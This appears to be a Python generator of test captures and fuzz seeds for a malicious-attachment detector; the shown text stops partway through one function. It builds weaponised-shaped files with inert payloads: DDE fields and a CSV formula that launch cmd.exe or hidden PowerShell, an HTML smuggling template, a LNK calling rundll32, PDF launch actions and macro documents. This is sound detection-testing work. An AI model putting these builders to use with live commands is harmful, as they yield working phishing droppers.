#!/usr/bin/env python3
"""Write the captures of the T6 attachment detector's pcap cases (tests/pcap/dt_attachment_*/
input.pcap) and the seed corpus of fuzz/fuzz_zipscan.c (fuzz/corpus/zipscan/).

usage: tools/gen_dt_attachment_pcaps.py [--root .] [--no-corpus]

Every file is deterministic (fixed seeds, fixed start time 2024-04-23T01:00:00Z): running the
script twice gives byte-identical output. Hosts: the office of demo/README.md (HOME_NET
192.168.10.0/24, mail server 192.168.10.25); outside hosts from the documentation ranges.

Cases (the expect.yaml of each folder says what is asserted):
  office      SMTP delivery of budget.xlsm (OOXML with xl/vbaProject.bin, macroEnabled content
              type), Q2-figures.xls (OLE with a _VBA_PROJECT_CUR storage) and the benign
              plan.docx and data.xlsx; the same message fetched over IMAP.
  exec        SMTP: an ELF named backup-agent, documents.zip holding invoice.pdf.exe, a PE
              named with a right-to-left override (RFC 2231 filename*); the ELF message sent
              twice on the same connection (one alert per file per flow); POP3 retrieval.
  containers  SMTP: invoice.lnk, document.iso (ISO 9660 with INVOICE.LNK), notes.one (OneNote
              with an embedded HTA), payment.js, files.7z (AES, encrypted header), backup.rar
              (RAR 5 with archive encryption).
  http        A PC downloads setup.exe (200), agent.exe gzip-encoded, a PE by Content-
              Disposition "invoice.pdf.exe", and ordinary pages, scripts, images, a PDF and a
              404 for an .exe.
  benign      SMTP with docx, xlsx, pdf, png, jpg, txt, csv and a zip of PDFs; POP3 and IMAP
              retrieval of it.
  xlm         SMTP: Q3-report.xls (an Excel 97-2003 workbook with a very hidden Excel 4.0
              macro sheet, no VBA) and Q3-data.xls (worksheets only, one hidden).
  active      SMTP: quote.rtf (an RTF with an Equation Editor object), order.docx (a remote
              template over HTTP), invoice.docx (an OLE object relationship to an mhtml: URL,
              the CVE-2021-40444 shape), payment.html (HTML smuggling of a ZIP), statement.pdf
              (a launch action running cmd.exe on opening), and the benign letter.docx (a
              template on the local disk), figures.rtf (an RTF with an embedded Excel 97-2003
              workbook), logo.svg (an SVG without script) and manual.pdf (a launch action
              that opens another PDF).
  dde         SMTP: report.docx (a DDEAUTO field running cmd.exe, its keyword split over runs),
              prices.xlsx (an external DDE link to cmd), memo.rtf (a DDEAUTO field), and the
              benign q3.docx (a DDE field linking a workbook, updated on request) and
              rates.xlsx (a DDE link to a market-data server); orders.csv (a cell with a DDE
              formula starting cmd) and the benign totals.csv (a SUM formula, pipes in data);
              notice.doc (a Word 97-2003 document with a DDEAUTO field running cmd.exe).
  ppap        SMTP, POP3, IMAP: encrypted ZIPs whose password follows in a second mail from
              the same sender, or from the sender's PPAP system (another address of its
              domain); the right password from another sender's domain opens nothing.
The fuzz seeds are the attachments built here plus the three T6 attachments of demo/demo.pcap
(taken out of its SMTP streams), each behind the fuzz target's 3-byte header.
"""

import argparse
import base64
import email
import email.policy
import gzip
import os
import random
import struct
import sys
import urllib.parse
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pcapgen as pg  # noqa: E402

T0 = pg.ts_from_iso("2024-04-23T01:00:00Z")
MAIL = "192.168.10.25"
MAILHOST = "mail.sakura-trading.example"
DOMAIN = "sakura-trading.example"
GW_MAC = "00:09:0f:3a:10:01"


def mac_of(ip):
    last = int(ip.split(".")[3])
    return "02:00:5e:10:%02x:%02x" % (last >> 8, last & 0xFF)


def internal(ip):
    return ip.startswith("192.168.10.")


def framer(client, server):
    """Ethernet as the office switch's SPAN port sees it: outside hosts behind the gateway."""
    cm = mac_of(client) if internal(client) else GW_MAC
    sm = mac_of(server) if internal(server) else GW_MAC
    return pg.eth_framer(cm, sm)


class Gen:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.cap = pg.Capture()
        self.clock = pg.Clock(T0, self.rng)
        self.port = 40000

    def eport(self):
        self.port += 1
        return self.port

    def tcp(self, client, server):
        rtt = 0.0004 if internal(client) and internal(server[0]) else 0.03
        return pg.TcpSession(self.cap, self.clock, (client, self.eport()), (server[0], server[1]),
                             framer=framer(client, server[0]), rng=self.rng, rtt=rtt)

    @staticmethod
    def dialog(s, steps):
        for st in steps:
            who, data = st[0], st[1]
            if who == "C":
                s.send(True, data)
                s.half_rtt()
            else:
                s.wait(st[2] if len(st) > 2 else 0.0005, 0.1)
                s.send(False, data)
                s.half_rtt()

    def smtp(self, client, helo, mail_from, rcpts, messages):
        """One SMTP connection delivering each message as its own transaction."""
        s = self.tcp(client, (MAIL, 25))
        s.handshake()
        self.dialog(s, [("S", b"220 %s ESMTP Postfix (Ubuntu)\r\n" % MAILHOST.encode(), 0.03),
                        ("C", b"EHLO %s\r\n" % helo.encode()),
                        ("S", b"250-%s\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n250 8BITMIME\r\n"
                         % MAILHOST.encode())])
        for msg in messages:
            steps = [("C", b"MAIL FROM:<%s>\r\n" % mail_from.encode()), ("S", b"250 2.1.0 Ok\r\n")]
            for r in rcpts:
                steps += [("C", b"RCPT TO:<%s>\r\n" % r.encode()), ("S", b"250 2.1.5 Ok\r\n")]
            steps += [("C", b"DATA\r\n"), ("S", b"354 End data with <CR><LF>.<CR><LF>\r\n")]
            self.dialog(s, steps)
            s.send(True, pg.smtp_dot_stuff(msg))
            s.half_rtt()
            self.dialog(s, [("S", b"250 2.0.0 Ok: queued as 4VPX%04d\r\n"
                             % self.rng.randrange(10000), 0.02)])
        self.dialog(s, [("C", b"QUIT\r\n"), ("S", b"221 2.0.0 Bye\r\n")])
        s.close(by_client=False)
        self.clock.advance(1.0)

    def imap(self, pc, user, messages):
        s = self.tcp(pc, (MAIL, 143))
        s.handshake()
        self.dialog(s, [("S", b"* OK [CAPABILITY IMAP4rev1 LITERAL+ AUTH=PLAIN] Dovecot ready.\r\n",
                         0.005),
                        ("C", b"a001 LOGIN %s \"Kq7#mV2$zR9x\"\r\n" % user.encode()),
                        ("S", b"a001 OK Logged in\r\n", 0.01),
                        ("C", b"a002 SELECT INBOX\r\n"),
                        ("S", b"* %d EXISTS\r\na002 OK [READ-WRITE] Select completed.\r\n"
                         % len(messages))])
        tag = 3
        for i, m in enumerate(messages, 1):
            self.dialog(s, [("C", b"a%03d FETCH %d (BODY.PEEK[])\r\n" % (tag, i))])
            s.wait(0.001)
            s.send(False, b"* %d FETCH (BODY[] {%d}\r\n" % (i, len(m)) + m +
                   b")\r\na%03d OK Fetch completed.\r\n" % tag)
            s.half_rtt()
            tag += 1
        self.dialog(s, [("C", b"a%03d LOGOUT\r\n" % tag),
                        ("S", b"* BYE Logging out\r\na%03d OK Logout completed.\r\n" % tag)])
        s.close(by_client=False)
        self.clock.advance(1.0)

    def pop3(self, pc, user, messages):
        s = self.tcp(pc, (MAIL, 110))
        s.handshake()
        self.dialog(s, [("S", b"+OK Dovecot ready.\r\n", 0.005),
                        ("C", b"USER %s\r\n" % user.encode()), ("S", b"+OK\r\n"),
                        ("C", b"PASS Kq7#mV2$zR9x\r\n"), ("S", b"+OK Logged in.\r\n", 0.008),
                        ("C", b"STAT\r\n"),
                        ("S", b"+OK %d %d\r\n" % (len(messages), sum(map(len, messages))))])
        for i, m in enumerate(messages, 1):
            self.dialog(s, [("C", b"RETR %d\r\n" % i)])
            s.wait(0.001)
            s.send(False, b"+OK %d octets\r\n" % len(m) + pg.smtp_dot_stuff(m))
            s.half_rtt()
        self.dialog(s, [("C", b"QUIT\r\n"), ("S", b"+OK Logging out.\r\n")])
        s.close(by_client=False)
        self.clock.advance(1.0)

    def http(self, pc, server, exchanges, host):
        """One keep-alive connection: exchanges = [(path, status, headers, body)]."""
        s = self.tcp(pc, (server, 80))
        s.handshake()
        for path, status, headers, body in exchanges:
            req = ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; "
                   "Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
                   "\r\nAccept: */*\r\n\r\n" % (path, host)).encode()
            self.dialog(s, [("C", req)])
            reason = {200: "OK", 404: "Not Found"}[status]
            head = "HTTP/1.1 %d %s\r\nServer: nginx\r\n" % (status, reason)
            for k, v in headers:
                head += "%s: %s\r\n" % (k, v)
            head += "Content-Length: %d\r\n\r\n" % len(body)
            s.wait(0.01)
            s.send(False, head.encode() + body)
            s.half_rtt()
        s.close()
        self.clock.advance(1.0)


# ----------------------------------------------------------------------------- mail


def message(rng, frm, to, subject, text, attachments, text_part=None):
    """multipart/mixed with base64 attachments [(filename, content type, bytes)]; a non-ASCII
    file name goes out as RFC 2231 filename*=UTF-8''...; text_part: (content type, transfer
    encoding, bytes) of the text instead of text as UTF-8 8bit"""
    boundary = "----=_Part_%d" % rng.getrandbits(32)
    head = ("Date: Tue, 23 Apr 2024 10:00:00 +0900\r\nFrom: %s\r\nTo: %s\r\nSubject: %s\r\n"
            "Message-ID: <%x@%s>\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=\"%s\"\r\n\r\n"
            % (frm, to, subject, rng.getrandbits(48), frm.split("@")[1], boundary))
    if text_part:
        ctype, cte, data = text_part
        enc = pg.b64_lines(data) if cte == "base64" else data.decode("latin-1") + "\r\n"
        body = "--%s\r\nContent-Type: %s\r\nContent-Transfer-Encoding: %s\r\n\r\n%s" % (
            boundary, ctype, cte, enc)
    else:
        body = "--%s\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n%s\r\n" % (boundary, text)
    for name, ctype, data in attachments:
        try:
            name.encode("ascii")
            disp = 'attachment; filename="%s"' % name
            ctn = '; name="%s"' % name
        except UnicodeEncodeError:
            disp = "attachment; filename*=UTF-8''%s" % urllib.parse.quote(name.encode(), safe="")
            ctn = ""
        body += ("--%s\r\nContent-Type: %s%s\r\nContent-Transfer-Encoding: base64\r\n"
                 "Content-Disposition: %s\r\n\r\n%s" % (boundary, ctype, ctn, disp,
                                                        pg.b64_lines(data)))
    body += "--%s--\r\n" % boundary
    return (head + body).encode()


# ----------------------------------------------------------------------------- file builders

CT_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Types xmlns="http://'
           'schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
           'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default '
           'Extension="xml" ContentType="application/xml"/>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns='
        '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="%s"/></Relationships>')


def xlsm(rng):
    ct = (CT_HEAD + '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.'
          'macroEnabled.main+xml"/></Types>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<workbook xmlns="http://'
          'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Budget" '
          'sheetId="1" r:id="rId1"/></sheets></workbook>')
    vba = pg.vba_project_bin(b"Sub Workbook_Open()\r\n    ' mamori test sample: inert\r\n"
                             b"    Debug.Print \"test\"\r\nEnd Sub\r\n", module="ThisWorkbook")
    return pg.zip_archive([("[Content_Types].xml", ct.encode()),
                           ("_rels/.rels", (RELS % "xl/workbook.xml").encode()),
                           ("xl/workbook.xml", wb.encode()), ("xl/vbaProject.bin", vba)],
                          rng=rng, mtime=(2024, 4, 22, 9, 12, 30))


def docx(rng, text="Project plan"):
    ct = (CT_HEAD + '<Override PartName="/word/document.xml" ContentType="application/vnd.'
          'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<w:document xmlns:w="http:'
           '//schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>%s'
           '</w:t></w:r></w:p></w:body></w:document>' % text)
    return pg.zip_archive([("[Content_Types].xml", ct.encode()),
                           ("_rels/.rels", (RELS % "word/document.xml").encode()),
                           ("word/document.xml", doc.encode())], rng=rng,
                          mtime=(2024, 4, 22, 9, 20, 0))


def xlsx(rng):
    ct = (CT_HEAD + '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
          'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<workbook xmlns="http://'
          'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Data" '
          'sheetId="1"/></sheets></workbook>')
    return pg.zip_archive([("[Content_Types].xml", ct.encode()),
                           ("_rels/.rels", (RELS % "xl/workbook.xml").encode()),
                           ("xl/workbook.xml", wb.encode())], rng=rng,
                          mtime=(2024, 4, 22, 9, 25, 0))


REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx_with_rel(rng, part_rels, rel_type, target):
    """A .docx whose part_rels (e.g. word/_rels/settings.xml.rels) holds one external
    relationship of rel_type to target."""
    ct = (CT_HEAD + '<Override PartName="/word/document.xml" ContentType="application/vnd.'
          'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<w:document xmlns:w="http:'
           '//schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Order'
           '</w:t></w:r></w:p></w:body></w:document>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns='
            '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            'Type="%s%s" Target="%s" TargetMode="External"/></Relationships>'
            % (REL_NS, rel_type, target))
    return pg.zip_archive([("[Content_Types].xml", ct.encode()),
                           ("_rels/.rels", (RELS % "word/document.xml").encode()),
                           ("word/document.xml", doc.encode()),
                           ("word/settings.xml", b'<w:settings xmlns:w="http://schemas.'
                            b'openxmlformats.org/wordprocessingml/2006/main"/>'),
                           (part_rels, rels.encode())], rng=rng,
                          mtime=(2024, 4, 22, 9, 40, 0))


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_with_body(rng, body):
    """A .docx whose word/document.xml has the body XML given."""
    ct = (CT_HEAD + '<Override PartName="/word/document.xml" ContentType="application/vnd.'
          'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<w:document xmlns:w="%s">'
           '<w:body>%s</w:body></w:document>' % (W_NS, body))
    return pg.zip_archive([("[Content_Types].xml", ct.encode()),
                           ("_rels/.rels", (RELS % "word/document.xml").encode()),
                           ("word/document.xml", doc.encode())], rng=rng,
                          mtime=(2024, 4, 22, 10, 5, 0))


def xlsx_with_dde(rng, service, topic):
    """An .xlsx with an external DDE link (what Excel writes for =service|'topic'!A0)."""
    ct = (CT_HEAD + '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
          'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<workbook xmlns="http://'
          'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Data" '
          'sheetId="1"/></sheets><externalReferences><externalReference r:id="rId3" xmlns:r="'
          'http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
          '</externalReferences></workbook>')
    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<externalLink xmlns='
            '"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="%s"'
            ' ddeTopic="%s"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
            '</externalLink>' % (service, topic))
    return pg.zip_archive([("[Content_Types].xml", ct.encode()),
                           ("_rels/.rels", (RELS % "xl/workbook.xml").encode()),
                           ("xl/workbook.xml", wb.encode()),
                           ("xl/externalLinks/externalLink1.xml", link.encode())], rng=rng,
                          mtime=(2024, 4, 22, 10, 10, 0))


def case_dde():
    """DDE fields, links and formulas that start a program; two harmless DDE links and a CSV
    file with an ordinary formula."""
    g = Gen(73)
    r = g.rng
    run = '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>'
    fld = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    para = '<w:p><w:r><w:t>%s</w:t></w:r></w:p>'
    cmd = ('c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k powershell -w hidden -c echo '
           'mamori-test&quot;')
    report = (para % "Quarterly report" + "<w:p>" + fld % "begin" + run % " DDE" +
              run % ("AUTO " + cmd + " ") + fld % "separate" + "<w:r><w:t>Loading...</w:t></w:r>" +
              fld % "end" + "</w:p>" + para % "Figures follow.")
    q3 = (para % "Q3 figures:" + "<w:p>" + fld % "begin" +
          run % ' DDE Excel "C:\\\\Finance\\\\Q3.xlsx" "Sheet1!R1C1" ' + fld % "separate" +
          "<w:r><w:t>1200</w:t></w:r>" + fld % "end" + "</w:p>")
    memo = (b"{\\rtf1\\ansi{\\fonttbl{\\f0 Calibri;}}\\pard Memo\\par{\\field{\\*\\fldinst "
            b"{\\f0 DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "
            b"\"/k echo mamori-test\" }}{\\fldrslt {Loading}}}\\par}")
    atts = [("report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
             "document", docx_with_body(r, report)),
            ("prices.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             xlsx_with_dde(r, "cmd", "/c echo mamori-test")),
            ("memo.rtf", "application/rtf", memo),
            ("q3.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
             "document", docx_with_body(r, q3)),
            ("rates.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             xlsx_with_dde(r, "BLP", "BDP")),
            ("orders.csv", "text/csv",
             b"order,item,qty\r\n1001,pen,3\r\n"
             b"=cmd|' /C powershell -w hidden -c echo mamori-test'!A0,x,1\r\n"),
            ("totals.csv", "text/csv",
             b"item,qty,total\r\npen,3,=SUM(B2:B3)\r\nlog,a|b,c!d\r\n"),
            ("notice.doc", "application/msword",
             pg.word97_doc([("Dear customer,\r", False),
                            ("\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k "
                             "powershell -w hidden -c echo mamori-test\" \x14Loading...\x15\r",
                             True)]))]
    msg = message(r, "accounts@partner-i.example", "yamamoto@" + DOMAIN, "Quarterly report",
                  "Please open the attached report and allow the update of links.", atts)
    g.smtp("198.51.100.81", "mx.partner-i.example", "accounts@partner-i.example",
           ["yamamoto@" + DOMAIN], [msg])
    return g, atts


def rtf_with_object(cls, native, text="Quotation"):
    """An RTF document with one embedded OLE 1.0 object ([MS-OLEDS] 2.2.4/2.2.5) of class cls,
    hex-encoded in \\objdata as Word writes it."""
    c = cls.encode() + b"\0"
    obj = (struct.pack("<III", 0x501, 2, len(c)) + c + struct.pack("<III", 0, 0, len(native)) +
           native).hex()
    lines = "\r\n".join(obj[i:i + 128] for i in range(0, len(obj), 128))
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0 %s\\par "
            "{\\object\\objemb\\objupdate{\\*\\objclass %s}\\objw2000\\objh800"
            "{\\*\\objdata\r\n%s}{\\result{\\pict\\wmetafile8 0100}}}\\par}\r\n"
            % (text, cls, lines)).encode()


def pdf_with_action(action):
    """A one-page PDF whose catalog's /OpenAction is the action dictionary given."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< " + action + b" >>"]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs):
        offs.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, o)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offs)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


def pdf_objstm_with_action(action):
    """A PDF 1.5 whose action dictionary (the catalog's /OpenAction) lies in a compressed
    object stream (/Type /ObjStm, FlateDecode), where droppers hide it from scanners that
    read only plain objects."""
    inner = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >> << " + action + b" >>"
    pairs = b"2 0 4 %d " % len(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >> ")
    data = zlib.compress(pairs + inner, 9)
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n"
    out += b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
    out += (b"5 0 obj\n<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\n"
            b"stream\r\n" % (len(pairs), len(data))) + data + b"\r\nendstream\nendobj\n"
    out += b"trailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n"
    return out


def smuggling_page(payload, name):
    """An HTML page that decodes payload (base64 in the page) into a Blob and saves it as
    name when opened: HTML smuggling as Qakbot and IcedID used it."""
    b64 = base64.b64encode(payload).decode()
    return ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Payment</title></head>"
            "<body><p>Your document is being downloaded.</p><script>\n"
            "var d = '%s';\n"
            "var s = atob(d), b = new Uint8Array(s.length);\n"
            "for (var i = 0; i < s.length; i++) b[i] = s.charCodeAt(i);\n"
            "var u = URL.createObjectURL(new Blob([b], {type: 'application/octet-stream'}));\n"
            "var a = document.createElement('a'); a.href = u; a.download = '%s';\n"
            "document.body.appendChild(a); a.click();\n</script></body></html>\n"
            % (b64, name)).encode()


def xls_with_macros(rng):
    return pg.ole_cfb({
        "Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(rng.getrandbits(8)
                                                                for _ in range(900)),
        "_VBA_PROJECT_CUR/PROJECT": b'ID="{11111111-2222-3333-4444-555555555555}"\r\n'
                                    b'Document=ThisWorkbook/&H00000000\r\n',
        "_VBA_PROJECT_CUR/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "_VBA_PROJECT_CUR/VBA/ThisWorkbook": pg.ovba_compress(
            b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\nEnd Sub\r\n'),
    })


def biff(rtype, data=b""):
    return struct.pack("<HH", rtype, len(data)) + data


def xls_sheets(rng, sheets):
    """An Excel 97-2003 workbook (OLE2 with a Workbook stream) whose sheet list holds
    sheets = [(name, visibility 0/1/2, sheet type 0 worksheet / 1 Excel 4.0 macro sheet)]:
    BOF, a CodePage record, one BoundSheet8 record per sheet, EOF of the globals, then the
    sheets' own records (random bytes here) so that the stream is past the mini-stream
    cutoff."""
    wb = biff(0x0809, bytes([0, 6, 5, 0]) + bytes(12)) + biff(0x0042, b"\xe4\x04")
    for name, hs, dt in sheets:
        wb += biff(0x0085, struct.pack("<IBBBB", 0, hs, dt, len(name), 0) + name)
    wb += biff(0x000a)
    while len(wb) < 6000:
        wb += biff(0x0203, bytes(rng.getrandbits(8) for _ in range(14)))  # Number cells
    return pg.ole_cfb({"Workbook": wb})


def elf(rng, size=3000):
    ident = b"\x7fELF\x02\x01\x01" + b"\0" * 9
    hdr = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64,
                              0, 0)
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000)
    body = hdr + ph
    return body + bytes(rng.getrandbits(8) for _ in range(size - len(body)))


def lnk():
    """A shortcut to cmd.exe with arguments ([MS-SHLLINK]: header, RELATIVE_PATH, ARGUMENTS)."""
    flags = 0x08 | 0x20 | 0x80  # HasRelativePath, HasArguments, IsUnicode
    hdr = struct.pack("<I16sIIQQQIIIHHII", 0x4C, bytes.fromhex("0114020000000000c000000000000046"),
                      flags, 0x20, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0)
    hdr = hdr.ljust(0x4C, b"\0")

    def sd(text):
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")
    return hdr + sd("..\\..\\..\\Windows\\System32\\cmd.exe") + \
        sd("/c start invoice.pdf & rundll32 payload.dll,Start")


def iso(inner_name, inner):
    """ISO 9660: primary volume descriptor at sector 16, terminator at 17, root directory at
    sector 20 with one file at sector 21."""
    def dirrec(lba, size, name, is_dir):
        n = len(name)
        rec = struct.pack("<BBI", 0, 0, lba) + struct.pack(">I", lba) + \
            struct.pack("<I", size) + struct.pack(">I", size) + b"\x7c\x04\x17\x0a\x00\x00\x00" + \
            bytes([2 if is_dir else 0, 0, 0]) + struct.pack("<H", 1) + struct.pack(">H", 1) + \
            bytes([n]) + name
        if len(rec) % 2:
            rec += b"\0"
        return bytes([len(rec)]) + rec[1:]
    img = bytearray(22 * 2048 + ((len(inner) + 2047) // 2048) * 2048)
    pvd = bytearray(2048)
    pvd[0:7] = b"\x01CD001\x01"
    pvd[8:40] = b"LINUX".ljust(32)
    pvd[40:72] = b"INVOICE".ljust(32)
    struct.pack_into("<I", pvd, 80, len(img) // 2048)
    struct.pack_into(">I", pvd, 84, len(img) // 2048)
    struct.pack_into("<H", pvd, 128, 2048)
    struct.pack_into(">H", pvd, 130, 2048)
    root = dirrec(20, 2048, b"\0", True)
    pvd[156:156 + len(root)] = root
    img[16 * 2048:17 * 2048] = pvd
    img[17 * 2048:17 * 2048 + 7] = b"\xffCD001\x01"
    recs = dirrec(20, 2048, b"\0", True) + dirrec(20, 2048, b"\1", True) + \
        dirrec(21, len(inner), inner_name.encode() + b";1", False)
    img[20 * 2048:20 * 2048 + len(recs)] = recs
    img[21 * 2048:21 * 2048 + len(inner)] = inner
    return bytes(img)


ONENOTE_HDR = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
ONE_FILEDATA = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")


def onenote(rng, embedded):
    return (ONENOTE_HDR + bytes(rng.getrandbits(8) for _ in range(1008)) + ONE_FILEDATA +
            struct.pack("<QIQ", len(embedded), 0, 0) + embedded +
            bytes(rng.getrandbits(8) for _ in range(200)))


HTA = (b"<html><head><HTA:APPLICATION ID=\"open\" WINDOWSTATE=\"minimize\"><script language="
       b"\"VBScript\">' mamori test sample: inert\r\nSelf.Close</script></head></html>\r\n")


def seven_zip_aes(rng):
    """A 7z archive whose header is encoded and encrypted (7z -p -mhe): the encoded header's
    coder list names AES-256 + SHA-256 (06 F1 07 01)."""
    packed = bytes(rng.getrandbits(8) for _ in range(96))
    header = (b"\x17"                      # kEncodedHeader
              b"\x06\x00\x01\x09\x60\x00"  # PackInfo: pack pos 0, 1 stream, size 96
              b"\x07\x0b\x01\x00"          # UnpackInfo: folder, 1 folder, not external
              b"\x02\x24\x06\xf1\x07\x01\x0a\x53\x07" + bytes(rng.getrandbits(8) for _ in range(10)) +
              b"\x23\x03\x01\x01\x05\x5d\x00\x00\x01\x00"  # LZMA coder
              b"\x0c\x80\x90\x0a\x01\x00\x00\x00\x00\x00")
    sig = b"7z\xbc\xaf\x27\x1c\x00\x04"
    start = struct.pack("<QQI", len(packed), len(header), 0)
    return sig + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def rar5_encrypted(rng):
    """RAR 5 with archive encryption (rar a -hp): the first header after the signature is the
    encryption header (type 4)."""
    def vint(v):
        out = bytearray()
        while True:
            b = v & 0x7F
            v >>= 7
            out.append(b | (0x80 if v else 0))
            if not v:
                return bytes(out)
    body = vint(4) + vint(0) + vint(0) + vint(0) + vint(15) + bytes(rng.getrandbits(8)
                                                                     for _ in range(16))
    hdr = vint(len(body)) + body
    return b"Rar!\x1a\x07\x01\x00" + struct.pack("<I", zlib.crc32(hdr)) + hdr + \
        bytes(rng.getrandbits(8) for _ in range(240))


def jpeg(rng):
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" +
            bytes(rng.getrandbits(8) for _ in range(600)) + b"\xff\xd9")


PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]"
       b"/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n"
       b"trailer<</Root 1 0 R>>\n%%EOF\n")
JS = (b"var sh = new ActiveXObject('WScript.Shell');\r\n// mamori test sample: inert\r\n"
      b"WScript.Echo('test');\r\n")


# ----------------------------------------------------------------------------- cases


def case_office():
    g = Gen(61)
    r = g.rng
    atts = [("budget.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", xlsm(r)),
            ("Q2-figures.xls", "application/vnd.ms-excel", xls_with_macros(r)),
            ("plan.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
             "document", docx(r)),
            ("data.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             xlsx(r))]
    msg = message(r, "accounting@supplier.example", "watanabe@" + DOMAIN,
                  "Budget 2024 (please enable editing)", "Please review the attached files.",
                  atts)
    g.smtp("198.51.100.60", "mx.supplier.example", "accounting@supplier.example",
           ["watanabe@" + DOMAIN], [msg])
    g.imap("192.168.10.26", "watanabe", [msg])
    return g, atts


def case_exec():
    g = Gen(62)
    r = g.rng
    pe = pg.pe_executable(r, size=5120)
    agent = elf(r)
